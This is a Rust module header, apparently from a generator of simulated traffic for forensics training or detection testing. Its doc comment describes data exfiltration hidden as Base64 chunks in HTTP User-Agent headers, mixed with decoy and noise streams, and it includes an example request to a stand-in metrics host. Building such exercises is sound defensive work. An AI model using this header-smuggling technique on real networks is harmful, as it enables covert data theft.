//! HTTP header chunking
//!
//! A single keep-alive connection from the client to a metrics endpoint.
//! Some requests carry a URL-safe Base64 chunk after a marker inside the
//! `User-Agent` header:
//!
//! ```text
//! GET /api/metrics?id=4821 HTTP/1.1
//! Host: metrics.internal.corp
//! User-Agent: Mozilla/5.0 (compatible; ExfilChunk-S0VZOmRlbW8xMjMKRkxB)
//! ```
//!
//! Five marker-free requests precede and follow the chunks, and every
//! request gets an empty `200 OK`. Neighbouring hosts keep their own
//! connections to the same server, and random hosts make one-off requests.
//! The decoy stream comes from host `.66` on port 51066 with the marker
//! `TelemetryChunk-`.

pub mod channel;
pub mod noise;
pub mod packet;


pub use channel::HttpHeaderChannel;
pub use packet::{CHUNK_SIZE, DEFAULT_MARKER};
